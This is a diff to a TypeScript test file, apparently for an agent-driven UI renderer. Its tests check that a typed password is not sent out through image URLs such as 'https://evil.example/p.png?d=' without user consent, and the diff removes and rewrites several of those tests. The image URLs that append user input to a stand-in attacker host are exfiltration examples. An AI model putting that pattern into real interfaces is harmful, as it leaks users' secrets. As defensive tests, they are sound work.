@@ -136,44 +136,14 @@ describe('[BC-1] addresses', () => {
 describe('[BC-2] what the user entered', () => {
   it.each(types)('[BC-2] does not leave with the address of a %s until they ask', async (type) => {
     const { page } = show(leak(type, formatted))
-    const before = asked(page.container)
+    expect(asked(page.container)).toEqual(['https://evil.example/p.png?d='])
     await userEvent.type(screen.getByLabelText('Password'), 'hunter2')
-    expect(before).toEqual(['https://evil.example/p.png?d='])
     expect(asked(page.container)).toEqual([])
     expect(page.container.textContent).toContain('evil.example')
     expect(page.container.textContent).not.toContain('hunter2')
-    await userEvent.click(screen.getByRole('button', { name: 'Load' }))
+    await userEvent.click(screen.getByRole('button', { name: 'Show' }))
     expect(asked(page.container)).toEqual(['https://evil.example/p.png?d=hunter2'])
     await userEvent.type(screen.getByLabelText('Password'), '!')
-    expect(asked(page.container)).toEqual([])
-  })
-
-  it.each<[string, JsonObject]>([
-    ['the place itself', { path: '/pw' }],
-    ['a place above', { call: 'formatString', args: { value: 'https://evil.example/?d=${/}' }, returnType: 'string' }],
-  ])('[BC-2] read at %s', async (_, url) => {
-    const { page } = show(leak('Image', url))
-    await userEvent.type(screen.getByLabelText('Password'), 'https://evil.example/x')
-    expect(asked(page.container)).toEqual([])
-  })
-
-  it('[BC-2] is not given away by an image that comes later', async () => {
-    const { page, update } = show(
-      leak('Text', {}).map((one) => (one['id'] === 'out' ? { id: 'out', component: 'Text', text: '' } : one)),
-    )
-    await userEvent.type(screen.getByLabelText('Password'), 'x')
-    update({ id: 'out', component: 'Image', url: formatted })
-    expect(asked(page.container)).toEqual([])
-  })
-
-  it('[BC-2] does not show in which rows of a chosen list there are', async () => {
-    const { page } = show([
-      { id: 'root', component: 'Column', children: ['pick', 'rows'] },
-      { id: 'pick', component: 'ChoicePicker', options: [{ label: 'A', value: 'a' }], value: { path: '/seat' } },
-      { id: 'rows', component: 'Column', children: { componentId: 'pixel', path: '/seat' } },
-      { id: 'pixel', component: 'Image', url: 'https://evil.example/chosen.png' },
-    ])
-    await userEvent.click(screen.getByLabelText('A'))
     expect(asked(page.container)).toEqual([])
   })
 
@@ -191,28 +161,26 @@ describe('[BC-2] what the user entered', () => {
     expect(asked(page.container)).toEqual([photo])
   })
 
-  it('[BC-2] is gone where the agent writes itself, guessed right or not', async () => {
+  it('[BC-2] keeps an address waiting where the agent writes itself, guessed right or not', async () => {
     for (const guess of ['hunter2', 'other']) {
       const { page, write } = show(leak('Image', formatted))
       await userEvent.type(screen.getByLabelText('Password'), 'hunter2')
       await userEvent.tab()
       write('/pw', guess)
-      expect(asked(page.container)).toEqual([`https://evil.example/p.png?d=${guess}`])
+      expect(asked(page.container)).toEqual([])
       page.unmount()
     }
   })
 
-  it('[BC-2] a refused write does not wash it clean', async () => {
-    const { page, write, errors } = show(leak('Image', formatted))
-    await userEvent.type(screen.getByLabelText('Password'), 'x')
-    write('/pw/below', 'y')
-    expect(errors.map(({ code }) => code)).toEqual(['DATA_NOT_CONTAINER'])
-    expect(asked(page.container)).toEqual([])
-  })
-
-  it('[BC-2] may be in an address that needs no consent', async () => {
-    const { page } = show(leak('Image', { path: '/pw' }))
-    await userEvent.type(screen.getByLabelText('Password'), 'data:image/png;base64,AAAA')
-    expect(asked(page.container)).toEqual(['data:image/png;base64,AAAA'])
+  it('[BC-2] may be in an address that asks nobody, and in one that the host trusts', async () => {
+    const { page } = show(leak('Image', { path: '/pw' }), {
+      media: ({ host }) => (host === 'own.example' ? 'trusted' : true),
+    })
+    const field = screen.getByLabelText('Password')
+    for (const address of ['data:image/png;base64,AAAA', 'https://own.example/p']) {
+      await userEvent.clear(field)
+      await userEvent.type(field, address)
+      expect(asked(page.container)).toEqual([address])
+    }
   })
 })
